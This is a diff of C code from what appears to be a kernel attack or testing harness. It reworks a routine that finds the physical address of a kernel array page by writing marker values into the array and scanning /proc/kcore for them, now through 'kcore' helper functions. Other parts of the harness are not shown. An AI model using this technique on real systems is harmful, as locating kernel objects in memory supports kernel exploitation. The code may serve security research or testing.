@@ -5,8 +5,7 @@
  * page for it. No mapping is needed for what follows.
  */
 #include "attack.h"
-
-#include <elf.h>
+#include "kcore.h"
 
 /* Not on a page's start, so that nobody finds it but in the array. */
 struct mark {
@@ -14,41 +13,38 @@ struct mark {
 	uint64_t value;
 };
 
-static bool marked(int kcore, off_t at, const struct mark *mark)
+static bool marked(const struct kcore *kcore, const struct kcore_range *range, uint64_t at,
+		   const struct mark *mark)
 {
 	struct mark found;
 
-	return pread(kcore, &found.value, 8, at) == 8 && found.value == mark->value;
+	return kcore_read(kcore, range, at, &found.value) && found.value == mark->value;
 }
 
 /* The physical address of the first page of the array, found before it is frozen. */
 static uint64_t find(struct target *t)
 {
 	struct mark mark = { .value = 0x1234567887654321 ^ (uint64_t)t->serial << 32 };
-	int kcore = open("/proc/kcore", O_RDONLY | O_CLOEXEC);
-	Elf64_Phdr headers[64];
-	Elf64_Ehdr elf;
+	struct kcore kcore;
+	uint64_t at;
 	size_t i;
-	off_t at;
 
-	if (kcore < 0 || pread(kcore, &elf, sizeof(elf), 0) != sizeof(elf) ||
-	    elf.e_phnum > ARRAY_SIZE(headers) ||
-	    pread(kcore, headers, elf.e_phnum * sizeof(*headers), elf.e_phoff) < 0) {
+	if (!kcore_open(&kcore)) {
 		missing(t, "no /proc/kcore to search on this kernel");
 		return 0;
 	}
 	t->array->update(t->fd, 0, &mark.value, 0);
-	for (i = 0; i < elf.e_phnum; i++) {
-		if (headers[i].p_type != PT_LOAD || headers[i].p_paddr == UINT64_MAX)
-			continue;
-		for (at = 0; at < (off_t)headers[i].p_filesz; at += PAGE) {
-			if (!marked(kcore, headers[i].p_offset + at, &mark))
+	for (i = 0; i < kcore.nr; i++) {
+		const struct kcore_range *range = &kcore.ranges[i];
+
+		for (at = range->start; at < range->start + range->len; at += PAGE) {
+			if (!marked(&kcore, range, at, &mark))
 				continue;
 			/* it is the array if it follows what we do to the array */
 			mark.value++;
 			t->array->update(t->fd, 0, &mark.value, 0);
-			if (marked(kcore, headers[i].p_offset + at, &mark))
-				return headers[i].p_paddr + at;
+			if (marked(&kcore, range, at, &mark))
+				return at;
 		}
 	}
 	missing(t, "the page is not in /proc/kcore");
